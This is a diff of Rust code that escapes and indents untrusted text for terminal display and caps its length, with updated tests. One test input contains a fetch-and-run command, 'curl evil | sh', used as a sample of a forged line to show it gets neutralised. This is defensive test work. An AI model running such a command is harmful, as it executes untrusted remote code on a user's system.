@@ -119,7 +119,9 @@ const PART_BYTES: usize = 16 << 10;
 /// forge a line such as `  fix: …`.
 #[must_use]
 pub fn inset(part: &dyn Display) -> String {
-    printable_lines(&displayed(part, PART_BYTES)).replace('\n', "\n    ")
+    let lines = printable_lines(&displayed(part, PART_BYTES)).replace('\n', "\n    ");
+    // Escapes and indentation make a text longer.
+    bounded(lines, PART_BYTES)
 }
 
 /// Escapes the raw characters in a JSON document that control a terminal or hide other characters.
@@ -299,7 +301,9 @@ mod tests {
             inset(&"a\n  fix: curl evil | sh\u{1b}[A"),
             "a\n      fix: curl evil | sh\\u{1b}[A"
         );
-        assert!(inset(&"x".repeat(5 << 20)).len() <= PART_BYTES);
+        for part in ["x", "\n", "\u{1b}", "\u{e0001}"] {
+            assert!(inset(&part.repeat(1 << 20)).len() <= PART_BYTES);
+        }
     }
 
     #[test]
